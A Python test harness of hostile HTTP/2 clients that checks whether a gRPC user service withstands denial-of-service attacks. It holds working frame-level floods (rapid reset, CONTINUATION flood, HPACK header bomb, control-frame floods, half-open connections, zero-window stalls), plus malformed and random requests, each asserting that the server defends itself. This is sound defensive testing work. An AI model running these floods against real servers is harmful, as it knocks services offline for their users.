"""Hostile clients, by raw HTTP/2 frames. Usage: attacks.py HOST:PORT DESCRIPTORS ATTACK

DESCRIPTORS is a file with a FileDescriptorSet, ATTACK the name of a function here. After the
attack, an innocent client (grpcio, with a connection of its own) has to be served. The caller
watches the memory of the server. The exit status is 0 if the server has defended itself."""

import random
import resource
import select
import socket
import struct
import sys
import time
from collections import Counter
from urllib.parse import unquote

import grpc
import hpack
from google.protobuf import descriptor_pb2, descriptor_pool, json_format, message_factory

address, descriptors, attack = sys.argv[1:]
host, port = address.rsplit(":", 1)
pool = descriptor_pool.DescriptorPool()
with open(descriptors, "rb") as file:
    for proto in descriptor_pb2.FileDescriptorSet.FromString(file.read()).file:
        pool.Add(proto)
service = pool.FindServiceByName("users.v1.UserService")

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 60
OK, INVALID_ARGUMENT, DEADLINE_EXCEEDED, UNIMPLEMENTED, UNAVAILABLE = "0", "3", "4", "12", "14"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message(payload, flag=0, length=None):
    """A gRPC message; its prefix can lie."""
    return struct.pack(">BI", flag, len(payload) if length is None else length) + payload


def request(rpc, **fields):
    """The message of an rpc, encoded."""
    method = service.FindMethodByName(rpc)
    return message(message_factory.GetMessageClass(method.input_type)(**fields).SerializeToString())


class Connection:
    """A client that sends what it likes, and keeps count of what it gets."""

    def __init__(self, window=65_535):
        self.socket = socket.create_connection((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.received, self.frames = b"", Counter()
        self.is_closed, self.goaway = False, b""
        self.responses = {}  # by stream: all headers and trailers
        self.status = {}  # by stream: the grpc-status, or "reset"
        self.windows = Counter({0: 65_535})
        self.server_window = 65_535
        self.next_stream = 1
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))
        self.until(lambda: self.frames[SETTINGS] >= 2)

    def send(self, data):
        """Sends, and reads meanwhile: a server that waits for its client must not block it."""
        view, deadline = memoryview(data), time.monotonic() + PATIENCE
        while view and not self.is_closed:
            assert time.monotonic() < deadline, "the server reads nothing"
            readable, writable, _ = select.select([self.socket], [self.socket], [], 1)
            if readable:
                self.read()
            if writable and not self.is_closed:
                try:
                    view = view[self.socket.send(view[:262_144]) :]
                except OSError:
                    self.is_closed = True

    def read(self):
        try:
            data = self.socket.recv(1 << 20)
        except OSError:
            data = b""
        self.is_closed |= not data
        self.received += data
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            self.handle(kind, flags, stream, self.received[9 : 9 + size])
            self.received = self.received[9 + size :]

    def handle(self, kind, flags, stream, payload):
        self.frames[kind] += 1
        if kind == HEADERS:
            headers = self.responses.setdefault(stream, {})
            headers.update(self.decoder.decode(payload))
            if "grpc-status" in headers:
                self.status[stream] = headers["grpc-status"]
            elif headers.get(":status", "200") != "200":
                self.status[stream] = headers[":status"]
        elif kind == RST_STREAM:
            self.status.setdefault(stream, "reset")
        elif kind == GOAWAY:
            self.goaway = payload
        elif kind == WINDOW_UPDATE:
            self.windows[stream] += struct.unpack(">I", payload)[0]
        elif kind == SETTINGS and not flags & ACK:
            for key, value in struct.iter_unpack(">HI", payload):
                if key == INITIAL_WINDOW_SIZE:
                    self.server_window = value
            # Within __init__ this acknowledges the server's settings.
            self.socket.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.socket.sendall(frame(PING, ACK, 0, payload))

    def state(self):
        return self.frames, Counter(self.status.values()), self.goaway

    def until(self, condition):
        deadline = time.monotonic() + PATIENCE
        while not condition():
            assert not self.is_closed and time.monotonic() < deadline, self.state()
            if select.select([self.socket], [], [], 1)[0]:
                self.read()

    def until_closed(self):
        deadline = time.monotonic() + PATIENCE
        while not self.is_closed:
            assert time.monotonic() < deadline, f"not closed: {self.state()}"
            if select.select([self.socket], [], [], 1)[0]:
                self.read()

    def flood(self, make_batch, batches):
        """Sends batches until the server closes the connection, which it has to."""
        for _ in range(batches):
            self.send(make_batch())
            if self.is_closed:
                return
        self.until_closed()

    def headers(self, rpc="GetUser", extra=(), flags=END_HEADERS, method="POST"):
        """The HEADERS of a new stream, and its number."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.windows[stream] += self.server_window
        path = rpc if rpc.startswith("/") else f"/{service.full_name}/{rpc}"
        fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", address)]
        fields += [("content-type", "application/grpc"), ("te", "trailers"), *extra]
        return frame(HEADERS, flags, stream, self.encoder.encode(fields)), stream

    def call(self, rpc, body, extra=(), method="POST"):
        """Sends a whole request and returns the number of its stream."""
        head, stream = self.headers(rpc, extra, method=method)
        parts = [body[at : at + 16_384] for at in range(0, len(body), 16_384)] or [b""]
        self.send(head + b"".join(frame(DATA, 0, stream, part) for part in parts[:-1]))
        self.send(frame(DATA, END_STREAM, stream, parts[-1]))
        return stream

    def outcome(self, stream):
        self.until(lambda: stream in self.status)
        return self.status[stream]

    def upload(self, streams, size):
        """Sends `size` bytes on each stream as the windows allow, as long as it is wanted. They
        begin a message of 4 MiB."""
        prefix = message(b"", length=4 << 20)
        for stream in streams:
            self.send(frame(DATA, 0, stream, prefix))
            self.windows[stream] -= len(prefix)
            self.windows[0] -= len(prefix)
        left = {stream: size for stream in streams}
        chunk = bytes(16_384)
        deadline = time.monotonic() + PATIENCE
        while left := {stream: size for stream, size in left.items() if size > 0 and stream not in self.status}:
            sent = 0
            for stream in left:
                part = min(left[stream], len(chunk), self.windows[stream], self.windows[0])
                if part > 0 and stream not in self.status:
                    self.send(frame(DATA, 0, stream, chunk[:part]))
                    left[stream] -= part
                    self.windows[stream] -= part
                    self.windows[0] -= part
                    sent += part
            assert not self.is_closed and time.monotonic() < deadline, self.state()
            if not sent and select.select([self.socket], [], [], 1)[0]:
                self.read()


def innocent(page_size=1):
    """A client that has nothing to do with the attack lists users."""
    with grpc.insecure_channel(address) as channel:
        method = service.FindMethodByName("ListUsers")
        call = channel.unary_unary(
            f"/{service.full_name}/ListUsers",
            request_serializer=lambda message: message.SerializeToString(),
            response_deserializer=message_factory.GetMessageClass(method.output_type).FromString,
        )
        # A queue may be full for a moment; a client retries.
        passing = (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED)
        for attempt in range(20):
            try:
                return call(message_factory.GetMessageClass(method.input_type)(page_size=page_size), timeout=20)
            except grpc.RpcError as error:
                if error.code() not in passing or attempt == 19:
                    raise
                time.sleep(0.25)


# ------------------------------------------------------------------ floods


def rapid_reset():
    connection = Connection()
    reset = struct.pack(">I", 8)

    def batch():
        pairs = (connection.headers() for _ in range(2_000))
        return b"".join(head + frame(RST_STREAM, 0, stream, reset) for head, stream in pairs)

    connection.flood(batch, 100)


def made_you_reset():
    connection = Connection()

    def batch():
        pairs = (connection.headers() for _ in range(500))
        # A window update of 0 is an error of the stream, so it is the server that resets it.
        return b"".join(head + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for head, stream in pairs)

    connection.flood(batch, 100)


def continuation_flood():
    connection = Connection()
    head, stream = connection.headers(flags=0)
    connection.send(head)
    header = connection.encoder.encode([("x-filler", "x" * 1_000)])
    connection.flood(lambda: frame(CONTINUATION, 0, stream, header) * 100, 1_000)


def header_bomb():
    """Large headers, and small ones that HPACK makes large."""
    connection = Connection()
    head, stream = connection.headers(extra=[(f"x-{n}", "x" * 900) for n in range(15)])
    connection.send(head)
    large = [(f"x-{n}", "x" * 900) for n in range(30)]
    for extra in [large, [("x-bomb", "x" * 3_000)] * 16_000]:
        connection = Connection()
        head, stream = connection.headers(extra=extra)
        payload = head[9:]
        parts = [payload[at : at + 16_384] for at in range(0, len(payload), 16_384)]
        last = len(parts) - 1
        kinds = [HEADERS, *[CONTINUATION] * last]
        flags = [*[0] * last, END_HEADERS]
        connection.send(b"".join(frame(*head, stream, part) for head, part in zip(zip(kinds, flags), parts)))
        connection.until(lambda: connection.is_closed or connection.status.get(stream) in ("431", "reset"))


def control_floods():
    """Frames that carry no request, each on a connection of its own."""
    floods = {
        "PING": frame(PING, 0, 0, bytes(8)),
        "PING acknowledgements": frame(PING, ACK, 0, bytes(8)),
        "SETTINGS": frame(SETTINGS, 0, 0),
        "PRIORITY": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)),
        "RST_STREAM": frame(RST_STREAM, 0, 1, struct.pack(">I", 8)),
        "WINDOW_UPDATE": frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
        "empty DATA": frame(DATA, 0, 1),
        "unknown frames": frame(250, 0, 1, bytes(8)),
    }
    for name, flood in floods.items():
        connection = Connection()
        connection.send(connection.headers()[0])
        try:
            connection.flood(lambda: flood * 1_000, 100)
        except AssertionError as error:
            raise AssertionError(name) from error


def half_open_connections():
    _, limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    sockets = []
    for n in range(1_200):
        half = socket.create_connection((host, int(port)))
        half.sendall(PREFACE[: n % len(PREFACE)])
        sockets.append(half)
    innocent()


# ------------------------------------------------- requests and responses that do not end


def zero_windows():
    """Asks for much on 1,000 streams, and reads nothing."""
    connection = Connection(window=0)
    for _ in range(1_000):
        connection.call("ListUsers", request("ListUsers", page_size=1_000))
    innocent()
    # Each ends: rejected, or reset when its deadline passes. On a slow machine, most wait for
    # PostgreSQL until their deadline. The connection goes on.
    connection.until(lambda: len(connection.status) == 1_000)
    outcomes = Counter(connection.status.values())
    assert outcomes["reset"] > 0 and set(outcomes) <= {"reset", UNAVAILABLE, DEADLINE_EXCEEDED}, outcomes
    assert connection.outcome(connection.call("GetUser", request("GetUser"))) == INVALID_ARGUMENT


def one_byte_windows():
    """HTTP/2 takes the whole response for one byte of window, so only the end of the
    connection frees it."""
    connection = Connection(window=1)
    for _ in range(1_000):
        connection.call("ListUsers", request("ListUsers", page_size=1_000))
    innocent()
    connection.until_closed()


def small_unread_responses():
    """The same with responses that are too small for their bytes to be counted."""
    connection = Connection(window=1)
    for _ in range(1_000):
        connection.call("ListUsers", request("ListUsers", page_size=1))
    innocent()
    connection.until_closed()


def unread_changes():
    """Fills the room for unread responses, and changes users then. The changes are made, so
    they cannot be rejected: the client learns that it has to ask again."""
    users = innocent(page_size=70).users
    connection = Connection(window=0)
    for size in (1_000, 50):
        while UNAVAILABLE not in connection.status.values():
            stream = connection.call("ListUsers", request("ListUsers", page_size=size))
            connection.until(lambda: stream in connection.responses)
        connection.status.clear()
    items = [dict(user=dict(id=user.id, display_name="x")) for user in users]
    stream = connection.call("BatchUpdateUsers", request("BatchUpdateUsers", items=items))
    assert connection.outcome(stream) == UNAVAILABLE
    assert "same request_id" in unquote(connection.responses[stream]["grpc-message"])
    changed = innocent(page_size=70).users
    assert {user.revision for user in changed} == {2}, changed


def unfinished_requests():
    """1,000 requests that announce 4 MiB each, and stop in the middle."""
    connection = Connection()
    streams = []
    for _ in range(1_000):
        head, stream = connection.headers("BatchCreateUsers")
        connection.send(head)
        streams.append(stream)
    connection.upload(streams, 256 << 10)
    innocent()
    connection.until(lambda: len(connection.status) == 1_000)
    # What exceeds the limit is rejected; the deadline ends the others.
    outcomes = Counter(connection.status.values())
    assert set(outcomes) == {UNAVAILABLE, DEADLINE_EXCEEDED}, outcomes
    assert connection.outcome(connection.call("GetUser", request("GetUser"))) == INVALID_ARGUMENT


def unfinished_reflection():
    """The same as streams of reflection, which have no deadline as a whole."""
    connection = Connection()
    streams = []
    for _ in range(200):
        head, stream = connection.headers("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
        connection.send(head)
        streams.append(stream)
    connection.upload(streams, 1 << 20)
    innocent()
    connection.until(lambda: len(connection.status) == 200)


# --------------------------------------------------------------------- malformed requests


def malformed_requests():
    connection = Connection()
    get_user = request("GetUser")
    valid = request("ListUsers", page_size=1)
    gzip = [("grpc-encoding", "gzip")]
    for name, expected, stream in [
        ("method GET", {"405"}, connection.call("ListUsers", valid, method="GET")),
        ("no time left", {DEADLINE_EXCEEDED}, connection.call("ListUsers", valid, [("grpc-timeout", "0n")])),
        ("two messages", {INVALID_ARGUMENT}, connection.call("ListUsers", valid + valid)),
        ("a message and a half", {INVALID_ARGUMENT}, connection.call("ListUsers", valid + b"\0")),
        ("no message", {INVALID_ARGUMENT}, connection.call("ListUsers", b"")),
        ("half a prefix", {INVALID_ARGUMENT}, connection.call("ListUsers", bytes(3))),
        ("4 GiB announced", {INVALID_ARGUMENT}, connection.call("GetUser", message(b"x", length=2**32 - 1))),
        ("4 MiB announced", {INVALID_ARGUMENT}, connection.call("GetUser", message(b"x", length=4 << 20))),
        ("less announced", {INVALID_ARGUMENT}, connection.call("ListUsers", message(valid, length=1))),
        ("compressed", {INVALID_ARGUMENT}, connection.call("GetUser", message(bytes(1000), flag=1))),
        ("gzip", {UNIMPLEMENTED}, connection.call("GetUser", message(bytes(1000), flag=1), gzip)),
        ("an unknown flag", {INVALID_ARGUMENT}, connection.call("GetUser", message(b"", flag=9))),
        ("nothing asked", {INVALID_ARGUMENT}, connection.call("GetUser", get_user)),
    ]:
        outcome = connection.outcome(stream)
        assert outcome in expected, (name, outcome)
    assert connection.outcome(connection.call("ListUsers", valid)) == OK


def random_bytes():
    """Random messages at every rpc: rejected, and never as a defect of the server."""
    seed = time.time_ns()
    random.seed(seed)
    connection = Connection(window=1 << 20)
    connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
    for method in service.methods:
        streams = []
        for n in range(100):
            body = random.randbytes(random.randrange(300))
            streams.append(connection.call(method.name, message(body) if n % 4 else body))
        for stream in streams:
            # An empty or unlucky request of a watch is valid, and the watch does not end.
            if method.name == "WatchUsers" and stream not in connection.status:
                connection.send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                continue
            outcome = connection.outcome(stream)
            assert outcome not in ("2", "13", "reset"), (method.name, outcome, seed)


def mass_cancellation():
    """No attack: a client cancels all its requests at once, and keeps its connection."""
    connection = Connection()
    cancel = struct.pack(">I", 8)
    valid = request("ListUsers", page_size=1)
    for _ in range(3):
        # Requests that run, and requests that the server has not seen.
        pairs = [connection.headers() for _ in range(900)]
        connection.send(b"".join(head for head, _ in pairs))
        connection.send(b"".join(frame(RST_STREAM, 0, stream, cancel) for _, stream in pairs))
        assert connection.outcome(connection.call("ListUsers", valid)) == OK
        pairs = [connection.headers() for _ in range(900)]
        connection.send(b"".join(head + frame(RST_STREAM, 0, stream, cancel) for head, stream in pairs))
        assert connection.outcome(connection.call("ListUsers", valid)) == OK


globals()[attack]()
innocent()
